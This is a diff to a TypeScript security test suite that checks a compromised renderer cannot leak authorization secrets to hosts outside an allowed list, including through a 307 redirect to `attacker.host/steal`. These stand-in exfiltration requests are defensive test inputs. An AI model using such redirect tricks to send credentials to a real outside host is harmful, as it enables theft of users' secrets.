@@ -22,11 +22,14 @@ interface Server {
   close(): Promise<void>;
 }
 
+/** A loopback server recording what it received; `/hop?to=URL` redirects there. */
 async function listen(): Promise<Server> {
   const seen: string[] = [];
   const server = http.createServer((request, response) => {
     seen.push(`${request.method} ${request.url} ${request.headers.authorization ?? ''}`);
-    response.end('{"ok":true}');
+    const to = new URL(request.url ?? '/', 'http://x').searchParams.get('to');
+    if (to) response.writeHead(307, { location: to }).end();
+    else response.end('{"ok":true}');
   });
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
   return { host: `127.0.0.1:${(server.address() as AddressInfo).port}`, seen, close: () => new Promise((resolve) => server.close(() => resolve())) };
@@ -99,6 +102,16 @@ describe('a compromised renderer', () => {
     expect(code(await send(`http://${attacker.host}/steal`))).toBe('host-not-allowed');
     expect(attacker.seen).toEqual([]);
     expect(port.asked).toEqual([]);
+  });
+
+  it('cannot have a redirect take a request with secrets outside the allowed hosts', async () => {
+    await start(port);
+    const result = await send(`http://${shop.host}/hop?to=${encodeURIComponent(`http://${attacker.host}/steal`)}`);
+    expect(result).toMatchObject({ ok: false, error: { code: 'redirect-refused' } });
+    expect(result.ok ? '' : result.error.message).toContain(`redirected to ${attacker.host}, which is not among the environment's allowed hosts`);
+    const plain = await send(`http://${shop.host}/hop?to=${encodeURIComponent(`http://${attacker.host}/steal`)}`, false);
+    expect(plain.ok ? '' : plain.error.message).toContain(`redirected to ${attacker.host}, which is not among the environment's allowed hosts`);
+    expect(attacker.seen).toEqual([]);
   });
 
   it('cannot widen the allowed hosts, production or TLS settings without the user confirming outside the window', async () => {
